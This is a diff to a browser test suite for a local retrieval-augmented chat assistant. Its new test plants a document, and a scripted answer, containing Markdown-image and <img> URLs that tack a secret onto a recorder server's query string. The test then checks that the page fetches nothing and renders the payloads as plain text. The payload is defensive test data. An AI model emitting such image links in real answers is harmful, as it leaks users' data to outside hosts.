@@ -1,6 +1,7 @@
-"""End to end: start `python app.py` with the real models, drive Debian's Chromium with Playwright.
+"""End to end in Debian's Chromium, driven by Playwright.
 
-Run alone with: pytest -m browser -s   (the first run converts the model once: minutes).
+The `real` test starts `python app.py` with the real models (pytest -m browser -s; the first run
+converts the model once: minutes); the others serve the app in-process with fakes (seconds).
 """
 
 from __future__ import annotations
@@ -11,13 +12,20 @@ import signal
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
+from fakes import HashingEmbedder, ScriptedGenerator, passage_number, seeded_config
 
-pytestmark = [pytest.mark.browser, pytest.mark.real]
+from assistant import ui
+from assistant.config import Config
+from assistant.rag import Assistant
+
+pytestmark = pytest.mark.browser
 
 ROOT = Path(__file__).parent.parent
 CHROMIUM = Path("/usr/bin/chromium")
@@ -107,6 +115,17 @@ def server(tmp_path):
                 proc.wait(timeout=20)
 
 
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--disable-gpu",
+]
+
+
+@pytest.mark.real
 def test_question_streams_a_cited_answer_in_chromium(server):
     from playwright.sync_api import sync_playwright
 
@@ -114,17 +133,7 @@ def test_question_streams_a_cited_answer_in_chromium(server):
     ARTIFACTS.mkdir(exist_ok=True)
     dialogs: list[str] = []
     with sync_playwright() as p:
-        browser = p.chromium.launch(
-            executable_path=str(CHROMIUM),
-            args=[
-                "--no-sandbox",
-                "--disable-background-networking",
-                "--disable-component-update",
-                "--disable-sync",
-                "--no-first-run",
-                "--disable-gpu",
-            ],
-        )
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
         page = None
         try:
             page = browser.new_page(viewport={"width": 1400, "height": 1000})
@@ -168,3 +177,83 @@ def test_question_streams_a_cited_answer_in_chromium(server):
             browser.close()
     assert dialogs == [], f"document HTML ran as script: {dialogs}"
     assert "Traceback" not in log.read_text()
+
+
+# --- with fakes: nothing leaves this machine ------------------------------------------------
+
+
+class _Recorder(BaseHTTPRequestHandler):
+    seen: list[str] = []
+
+    def do_GET(self):  # noqa: N802 - http.server's name
+        self.seen.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture()
+def recorder():
+    """A tiny HTTP server on 127.0.0.1 (another origin than the app) that records each request."""
+    _Recorder.seen = []
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}", _Recorder.seen
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_answer_and_passage_never_load_remote_resources(tmp_path, recorder):
+    """A planted document asks for a Markdown image and an <img>; the answer repeats them."""
+    from playwright.sync_api import sync_playwright
+
+    base, seen = recorder
+    claim = (
+        f"The vault launch code is 4471 ![p]({base}/md.png?data=4471) "
+        f"<img src={base}/raw.png?data=4471> see [click]({base}/link) {base}/bare"
+    )
+    cfg = seeded_config(tmp_path)
+    (cfg.seeds_dir / "vault.txt").write_text(f"Vault notes\n\n{claim}.\n", encoding="utf-8")
+    cfg = Config(**{**cfg.__dict__, "port": _free_port()})
+    generator = ScriptedGenerator(lambda m: f"{claim} [{passage_number(m, '4471')}].")
+    assistant = Assistant(cfg, HashingEmbedder(), generator)
+    assistant.rebuild()
+    demo = ui.build_app(assistant, cfg)
+    ui.launch(demo, cfg, None, prevent_thread_lock=True, quiet=True)
+    blocked: list[str] = []
+    try:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+            try:
+                page = browser.new_page()
+                page.on(
+                    "console",
+                    lambda m: "Content Security Policy" in m.text and blocked.append(m.text),
+                )
+                page.goto(f"http://127.0.0.1:{cfg.port}/")
+                page.fill("#question textarea", "What is the vault launch code?")
+                page.click("#send")
+                page.wait_for_selector("#chat .timings", timeout=30_000)
+                page.wait_for_timeout(500)  # time for any image request to go out
+                answer = page.locator("#chat .bot").last.inner_text()
+                sources = page.locator("#sources").inner_text()
+                assert page.locator("#chat a[href^='#src-']").count() >= 1  # our [n] links work
+                counts = [
+                    page.locator(f"{where} {tag}").count()
+                    for where in ("#chat", "#sources")
+                    for tag in ("img[src*='127.0.0.1']", "a[href^='http']")
+                ]
+            finally:
+                browser.close()
+    finally:
+        demo.close()
+    assert seen == [], f"the page fetched {seen}"
+    for text in (answer, sources):
+        assert f"![p]({base}/md.png?data=4471)" in text and f"<img src={base}/raw.png" in text
+    assert counts == [0, 0, 0, 0]
+    assert blocked == [], f"the page needed something its policy forbids: {blocked}"
